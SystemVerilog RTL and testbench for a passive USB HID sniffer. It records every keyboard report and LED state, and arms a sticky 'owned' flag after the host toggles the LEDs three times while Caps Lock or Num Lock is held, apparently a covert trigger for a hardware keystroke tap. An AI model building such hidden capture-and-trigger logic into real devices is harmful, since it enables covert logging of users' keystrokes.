// File: rtl/hid_report_sniffer_if.sv
// hid_report_sniffer_if: decoded USB packet stream as seen by the sniffer tap
interface hid_report_sniffer_if #(
  parameter int REPORT_BYTES = 8
);
  logic [8*REPORT_BYTES-1:0] data;
  logic [2:0]                usb_state;
  logic [7:0]                pid;
  logic                      host_dir;
  modport master (output data, usb_state, pid, host_dir);
  modport slave  (input  data, usb_state, pid, host_dir);
endinterface

// File: rtl/hid_report_sniffer.sv
// hid_report_sniffer: passive USB tap capturing HID key/LED reports and arming an ownership FSM
module hid_report_sniffer #(
  parameter int          REPORT_BYTES = 8,
  parameter int          NUM_KEYS     = 6,
  parameter logic [7:0]  TRIG_KEY0    = 8'h39,
  parameter logic [7:0]  TRIG_KEY1    = 8'h53,
  parameter logic [3:0]  KBD_EP       = 4'd1,
  parameter logic [3:0]  LED_EP       = 4'd0,
  parameter bit          ADDR_FILTER  = 1'b0,
  parameter logic [6:0]  DEV_ADDR     = 7'd0,
  parameter int          ARM_COUNT    = 3,
  parameter logic [23:0] IDLE_TIMEOUT = 24'd12_000_000
) (
  input  logic                  clk,
  input  logic                  rst,
  hid_report_sniffer_if.slave   bus,
  input  logic                  own_clr,
  output logic [7:0]            modifier,
  output logic [7:0]            keycode,
  output logic [8*NUM_KEYS-1:0] keys,
  output logic                  report_vld,
  output logic [4:0]            leds,
  output logic                  led_vld,
  output logic                  trig_held,
  output logic                  owned,
  output logic [3:0]            debug
);
  localparam logic [7:0] PID_OUT   = 8'hE1;
  localparam logic [7:0] PID_IN    = 8'h69;
  localparam logic [7:0] PID_SETUP = 8'h2D;
  localparam logic [7:0] PID_DATA0 = 8'hC3;
  localparam logic [7:0] PID_DATA1 = 8'h4B;
  localparam int         CW        = $clog2(ARM_COUNT + 1);
  localparam logic [CW-1:0] ARM_MAX = CW'(ARM_COUNT);
  typedef enum logic [1:0] {T_NONE, T_KBD, T_LED} tok_t;
  typedef enum logic [1:0] {DISARMED, ARMING, OWNED} state_t;
  tok_t          tok;
  logic          tok_out;
  state_t        st;
  logic [CW-1:0] arm_cnt;
  logic [23:0]   timer;
  logic          pkt, is_data, addr_ok, kbd_tok, led_tok, kbd_cap, led_cap, hit, qual;
  assign pkt     = bus.usb_state == 3'd4;
  assign is_data = bus.pid == PID_DATA0 || bus.pid == PID_DATA1;
  assign addr_ok = !ADDR_FILTER || bus.data[6:0] == DEV_ADDR;
  assign kbd_tok = bus.pid == PID_IN && addr_ok && bus.data[10:7] == KBD_EP;
  assign led_tok = (bus.pid == PID_OUT || bus.pid == PID_SETUP) && addr_ok &&
                   (bus.data[10:7] == 4'd0 || bus.data[10:7] == LED_EP);
  assign kbd_cap = pkt && is_data && tok == T_KBD && !bus.host_dir;
  assign led_cap = pkt && is_data && tok == T_LED && tok_out && bus.host_dir;
  assign qual    = led_cap && trig_held && bus.data[4:0] != leds;
  assign debug   = {owned, trig_held, tok == T_LED, tok == T_KBD};
  // scan every key slot of the incoming report for either trigger keycode
  always_comb begin
    hit = 1'b0;
    for (int i = 0; i < NUM_KEYS; i++)
      hit = hit | (bus.data[8*i+16 +: 8] == TRIG_KEY0) | (bus.data[8*i+16 +: 8] == TRIG_KEY1);
  end
  // token tracking and report capture; a data packet always consumes the pending token
  always_ff @(posedge clk or negedge rst)
    if (!rst) begin
      tok        <= T_NONE;
      tok_out    <= 1'b0;
      modifier   <= '0;
      keycode    <= '0;
      keys       <= '0;
      report_vld <= 1'b0;
      leds       <= '0;
      led_vld    <= 1'b0;
      trig_held  <= 1'b0;
    end else begin
      report_vld <= kbd_cap;
      led_vld    <= led_cap;
      if (pkt) begin
        tok     <= kbd_tok ? T_KBD : led_tok ? T_LED : T_NONE;
        tok_out <= bus.pid == PID_OUT;
      end
      if (kbd_cap) begin
        modifier  <= bus.data[7:0];
        keycode   <= bus.data[23:16];
        keys      <= bus.data[8*NUM_KEYS+15:16];
        trig_held <= hit;
      end
      if (led_cap)
        leds <= bus.data[4:0];
    end
  // arming FSM: count LED toggles made with a trigger held, time out idle arming, sticky ownership
  always_ff @(posedge clk or negedge rst)
    if (!rst) begin
      st      <= DISARMED;
      arm_cnt <= '0;
      timer   <= '0;
      owned   <= 1'b0;
    end else if (own_clr) begin
      st      <= DISARMED;
      arm_cnt <= '0;
      timer   <= '0;
      owned   <= 1'b0;
    end else begin
      case (st)
        DISARMED: if (qual) begin
          arm_cnt <= CW'(1);
          timer   <= '0;
          st      <= ARM_COUNT == 1 ? OWNED : ARMING;
          owned   <= ARM_COUNT == 1;
        end
        ARMING: if (qual) begin
          arm_cnt <= arm_cnt + 1'b1;
          timer   <= '0;
          st      <= arm_cnt + 1'b1 == ARM_MAX ? OWNED : ARMING;
          owned   <= arm_cnt + 1'b1 == ARM_MAX;
        end else if (timer == IDLE_TIMEOUT - 24'd1) begin
          st      <= DISARMED;
          arm_cnt <= '0;
          timer   <= '0;
        end else
          timer <= timer + 24'd1;
        OWNED: owned <= 1'b1;
        default: st <= DISARMED;
      endcase
    end
endmodule

// File: tb/tb_hid_report_sniffer.sv
// tb_hid_report_sniffer: table vectors, hand sequences and randomized traffic against a transaction model
module tb_hid_report_sniffer;
  localparam logic [7:0] P_IN = 8'h69, P_OUT = 8'hE1, P_SET = 8'h2D, P_D0 = 8'hC3, P_D1 = 8'h4B;
  localparam int TO = 100, ARM = 3;
  logic clk, rst, own_clr, report_vld, led_vld, trig_held, owned;
  logic [7:0] modifier, keycode;
  logic [47:0] keys;
  logic [4:0] leds;
  logic [3:0] debug;
  int checks, errors, cyc;
  hid_report_sniffer_if #(.REPORT_BYTES(8)) bus();
  hid_report_sniffer #(
    .REPORT_BYTES(8), .NUM_KEYS(6), .KBD_EP(4'd1), .LED_EP(4'd2), .ADDR_FILTER(1'b1),
    .DEV_ADDR(7'd5), .ARM_COUNT(ARM), .IDLE_TIMEOUT(24'd100)
  ) dut (
    .clk(clk), .rst(rst), .bus(bus), .own_clr(own_clr), .modifier(modifier), .keycode(keycode),
    .keys(keys), .report_vld(report_vld), .leds(leds), .led_vld(led_vld), .trig_held(trig_held),
    .owned(owned), .debug(debug)
  );
  typedef struct packed {
    logic [2:0] st; logic [7:0] pid; logic [63:0] d; logic dir; logic clr;
    logic rv; logic lv; logic [7:0] mod; logic [7:0] kc; logic [4:0] leds; logic trig; logic own; logic [3:0] dbg;
  } vec_t;
  vec_t tv[$];
  int pend, m_cnt, m_last;
  logic [7:0] m_mod, m_kc;
  logic [47:0] m_keys;
  logic [4:0] m_leds;
  logic m_trig, m_own;
  initial clk = 1'b0;
  always #5 clk = ~clk;
  always @(posedge clk) cyc <= cyc + 1;
  initial begin
    #5_000_000;
    $display("FAIL watchdog: simulation did not finish in time");
    $fatal(1);
  end
  task automatic chk(input string nm, input logic [63:0] act, input logic [63:0] exp);
    checks++;
    if (act !== exp) begin
      errors++;
      $display("FAIL %s: got %h expected %h", nm, act, exp);
    end
  endtask
  task automatic drive(input logic [2:0] st, input logic [7:0] p, input logic [63:0] d, input logic dir, input logic clr);
    @(negedge clk);
    bus.usb_state = st; bus.pid = p; bus.data = d; bus.host_dir = dir; own_clr = clr;
    @(posedge clk);
    #1;
    bus.usb_state = 3'd0; own_clr = 1'b0;
  endtask
  task automatic tog(input logic [4:0] v, input logic clr, input logic exp_own);
    drive(3'd4, P_OUT, 64'h05, 1'b1, 1'b0);
    drive(3'd4, P_D0, {59'd0, v}, 1'b1, clr);
    chk("tog led_vld", led_vld, 1);
    chk("tog leds", leds, v);
    chk("tog owned", owned, exp_own);
  endtask
  function automatic logic trig_in(input logic [63:0] d);
    for (int s = 0; s < 6; s++)
      if (d[8*s+16 +: 8] == 8'h39 || d[8*s+16 +: 8] == 8'h53) return 1'b1;
    return 1'b0;
  endfunction
  // transaction-level reference: what the tap should have learnt from one packet
  task automatic model_pkt(input logic [7:0] p, input logic [63:0] d, input logic dir, input int e,
                           output logic erv, output logic elv);
    erv = 0; elv = 0;
    if (p == P_D0 || p == P_D1) begin
      if (pend == 1 && !dir) begin
        m_mod = d[7:0]; m_kc = d[23:16]; m_keys = d[63:16]; m_trig = trig_in(d); erv = 1;
      end
      if (pend == 2 && dir) begin
        elv = 1;
        if (m_trig && d[4:0] != m_leds && !m_own) begin
          if (m_cnt > 0 && e - m_last > TO) m_cnt = 0;
          m_cnt++;
          m_last = e;
          if (m_cnt == ARM) m_own = 1;
        end
        m_leds = d[4:0];
      end
      pend = 0;
    end else if (p == P_IN && d[6:0] == 7'd5 && d[10:7] == 4'd1) pend = 1;
    else if ((p == P_OUT || p == P_SET) && d[6:0] == 7'd5 && (d[10:7] == 4'd0 || d[10:7] == 4'd2))
      pend = p == P_OUT ? 2 : 3;
    else pend = 0;
  endtask
  task automatic rnd_pkt(input logic [7:0] p, input logic [63:0] d, input logic dir);
    logic erv, elv;
    drive(3'd4, p, d, dir, 1'b0);
    model_pkt(p, d, dir, cyc, erv, elv);
    chk("rnd report_vld", report_vld, erv);
    chk("rnd led_vld", led_vld, elv);
    chk("rnd modifier", modifier, m_mod);
    chk("rnd keycode", keycode, m_kc);
    chk("rnd keys", keys, m_keys);
    chk("rnd leds", leds, m_leds);
    chk("rnd trig_held", trig_held, m_trig);
    chk("rnd owned", owned, m_own);
    chk("rnd debug", debug, {m_own, m_trig, pend >= 2, pend == 1});
  endtask
  initial begin
    tv.push_back('{3'd4, P_IN,  64'h85,        1'b0, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b0, 1'b0, 4'b0001});
    tv.push_back('{3'd4, P_D0,  64'h0004_0002, 1'b0, 1'b0, 1'b1, 1'b0, 8'h02, 8'h04, 5'h00, 1'b0, 1'b0, 4'b0000});
    tv.push_back('{3'd0, 8'h00, 64'h0,         1'b0, 1'b0, 1'b0, 1'b0, 8'h02, 8'h04, 5'h00, 1'b0, 1'b0, 4'b0000});
    tv.push_back('{3'd4, P_IN,  64'h83,        1'b0, 1'b0, 1'b0, 1'b0, 8'h02, 8'h04, 5'h00, 1'b0, 1'b0, 4'b0000});
    tv.push_back('{3'd4, P_D0,  64'h0005_00AA, 1'b0, 1'b0, 1'b0, 1'b0, 8'h02, 8'h04, 5'h00, 1'b0, 1'b0, 4'b0000});
    tv.push_back('{3'd4, P_IN,  64'h85,        1'b0, 1'b0, 1'b0, 1'b0, 8'h02, 8'h04, 5'h00, 1'b0, 1'b0, 4'b0001});
    tv.push_back('{3'd4, P_D1,  64'h0004_0011, 1'b1, 1'b0, 1'b0, 1'b0, 8'h02, 8'h04, 5'h00, 1'b0, 1'b0, 4'b0000});
    tv.push_back('{3'd4, P_IN,  64'h85,        1'b0, 1'b0, 1'b0, 1'b0, 8'h02, 8'h04, 5'h00, 1'b0, 1'b0, 4'b0001});
    tv.push_back('{3'd4, P_D1,  64'h3900_0000, 1'b0, 1'b0, 1'b1, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h02,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h02, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h105,       1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h02, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D1,  64'h00,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_SET, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h04,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h185,       1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_D0,  64'h04,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h02,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h02, 1'b1, 1'b1, 4'b1100});
    tv.push_back('{3'd0, 8'h00, 64'h0,         1'b0, 1'b1, 1'b0, 1'b0, 8'h00, 8'h00, 5'h02, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h02, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h00,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h00,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h00,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h04,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h04, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h04, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h00,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h00, 1'b1, 1'b1, 4'b1100});
    tv.push_back('{3'd0, 8'h00, 64'h0,         1'b0, 1'b1, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_IN,  64'h85,        1'b0, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0101});
    tv.push_back('{3'd4, 8'hD2, 64'h0,         1'b0, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_D0,  64'h77,        1'b0, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0100});
    tv.push_back('{3'd4, P_OUT, 64'h05,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd3, P_D0,  64'h02,        1'b1, 1'b0, 1'b0, 1'b0, 8'h00, 8'h00, 5'h00, 1'b1, 1'b0, 4'b0110});
    tv.push_back('{3'd4, P_D0,  64'h02,        1'b1, 1'b0, 1'b0, 1'b1, 8'h00, 8'h00, 5'h02, 1'b1, 1'b0, 4'b0100});
    rst = 1'b0; own_clr = 1'b0;
    bus.usb_state = 3'd0; bus.pid = 8'h00; bus.data = '0; bus.host_dir = 1'b0;
    repeat (3) @(posedge clk);
    #1;
    chk("reset modifier", modifier, 0);
    chk("reset keys", keys, 0);
    chk("reset leds", leds, 0);
    chk("reset pulses", {report_vld, led_vld}, 0);
    chk("reset owned", owned, 0);
    chk("reset debug", debug, 0);
    @(negedge clk) rst = 1'b1;
    foreach (tv[i]) begin
      drive(tv[i].st, tv[i].pid, tv[i].d, tv[i].dir, tv[i].clr);
      chk($sformatf("row%0d report_vld", i), report_vld, tv[i].rv);
      chk($sformatf("row%0d led_vld", i), led_vld, tv[i].lv);
      chk($sformatf("row%0d modifier", i), modifier, tv[i].mod);
      chk($sformatf("row%0d keycode", i), keycode, tv[i].kc);
      chk($sformatf("row%0d leds", i), leds, tv[i].leds);
      chk($sformatf("row%0d trig_held", i), trig_held, tv[i].trig);
      chk($sformatf("row%0d owned", i), owned, tv[i].own);
      chk($sformatf("row%0d debug", i), debug, tv[i].dbg);
    end
    drive(3'd0, 8'h00, 64'h0, 1'b0, 1'b1);
    tog(5'h04, 1'b0, 1'b0);
    tog(5'h00, 1'b0, 1'b0);
    repeat (105) @(posedge clk);
    tog(5'h04, 1'b0, 1'b0);
    tog(5'h00, 1'b0, 1'b0);
    tog(5'h04, 1'b0, 1'b1);
    tog(5'h00, 1'b1, 1'b0);
    tog(5'h04, 1'b0, 1'b0);
    tog(5'h00, 1'b0, 1'b0);
    tog(5'h04, 1'b1, 1'b0);
    tog(5'h00, 1'b0, 1'b0);
    tog(5'h04, 1'b0, 1'b0);
    tog(5'h00, 1'b0, 1'b1);
    drive(3'd4, P_IN, 64'h85, 1'b0, 1'b0);
    @(negedge clk);
    bus.usb_state = 3'd4; bus.pid = P_D0; bus.data = 64'h0000_3900_0004_0077; bus.host_dir = 1'b0;
    #2 rst = 1'b0;
    #1;
    chk("async rst modifier", modifier, 0);
    chk("async rst keycode", keycode, 0);
    chk("async rst keys", keys, 0);
    chk("async rst leds", leds, 0);
    chk("async rst trig/owned", {trig_held, owned}, 0);
    chk("async rst debug", debug, 0);
    bus.usb_state = 3'd0;
    @(negedge clk) rst = 1'b1;
    @(posedge clk);
    #1;
    chk("post rst report_vld", report_vld, 0);
    chk("post rst modifier", modifier, 0);
    chk("post rst owned", owned, 0);
    pend = 0; m_cnt = 0; m_last = 0; m_mod = 0; m_kc = 0; m_keys = 0; m_leds = 0; m_trig = 0; m_own = 0;
    for (int n = 0; n < 400; n++) begin
      logic [7:0] p;
      logic [63:0] d;
      int k, r;
      r = $urandom_range(0, 19);
      if (r == 0) begin
        drive(3'd0, 8'h00, 64'h0, 1'b0, 1'b1);
        m_own = 0; m_cnt = 0;
        chk("rnd own_clr", owned, 0);
      end else if (r == 1) repeat ($urandom_range(95, 110)) @(posedge clk);
      else if (r < 5) repeat ($urandom_range(1, 3)) @(posedge clk);
      k = $urandom_range(0, 9);
      p = k < 4 ? P_IN : k < 7 ? P_OUT : k == 7 ? P_SET : k == 8 ? P_D0 : 8'hA5;
      d = {$urandom, $urandom};
      d[10:0] = {4'($urandom_range(0, 3)), $urandom_range(0, 3) == 0 ? 7'd3 : 7'd5};
      rnd_pkt(p, d, 1'($urandom_range(0, 1)));
      if ($urandom_range(0, 9) != 0) begin
        d = {$urandom, $urandom};
        if ($urandom_range(0, 2) != 0) d[8*$urandom_range(0, 5)+16 +: 8] = $urandom_range(0, 1) ? 8'h39 : 8'h53;
        k = $urandom_range(0, 3);
        d[7:0] = k == 0 ? 8'h00 : k == 1 ? 8'h02 : k == 2 ? 8'h04 : 8'h11;
        rnd_pkt($urandom_range(0, 1) ? P_D0 : P_D1, d, $urandom_range(0, 4) == 0 ? 1'($urandom_range(0, 1)) : pend >= 2);
      end
    end
    $display("Simulation finished: %0d checks, %0d errors", checks, errors);
    $finish;
  end
endmodule
